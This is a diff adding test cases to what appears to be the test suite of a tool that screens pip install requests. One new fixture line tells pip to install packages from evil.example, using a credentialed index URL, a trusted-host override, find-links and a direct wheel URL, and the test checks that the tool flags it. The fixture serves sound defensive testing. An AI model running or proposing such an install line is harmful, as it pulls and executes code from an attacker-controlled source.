@@ -92,6 +92,15 @@ def from_file() -> Finding | None:
     )
 
 
+def not_typed() -> Finding | None:
+    line = (
+        "--index-url https://ana:secret@evil.example/simple --trusted-host evil.example "
+        "--find-links https://evil.example/wheels --allow-build pandas "
+        'pandas "helper @ https://evil.example/helper-1.0-py3-none-any.whl"'
+    )
+    return request.not_typed(intent(line))
+
+
 def stdlib_name_in_a_file() -> Finding | None:
     plain = intent("pandas")
     item = RequestItem(text="json", name="json", origin="requirements.txt:1")
@@ -135,6 +144,7 @@ CASES: dict[str, Callable[[], Finding | None]] = {
     "builds-from-source": lambda: request.builds_from_source(intent("wants-it"), {"source-only"}),
     "builds-explicit": explicit_folder,
     "from-file-only": from_file,
+    "not-typed": not_typed,
     "name-trap": lambda: request.name_trap(intent("sklearn cv2==4 pandas"), ()),
     "name-trap-slip": lambda: request.name_trap(intent("reqeusts"), ()),
     "name-trap-stdlib": stdlib_name_in_a_file,
@@ -224,3 +234,10 @@ def test_hostile_metadata_is_only_text(name: str, version: str, requirement: str
     words.feed(as_html(message))
     assert words.tags <= {"div", "span", "code", "details", "summary", "pre"}
     assert "\x1b" not in as_text(message, verbose=True)
+
+
+@pytest.mark.parametrize(
+    "line", ("pandas", '"pandas>=2" six', "-U --pre pandas", "--no-deps --force-reinstall pandas")
+)
+def test_a_line_that_only_names_packages_needs_no_question(line: str) -> None:
+    assert request.not_typed(intent(line)) is None
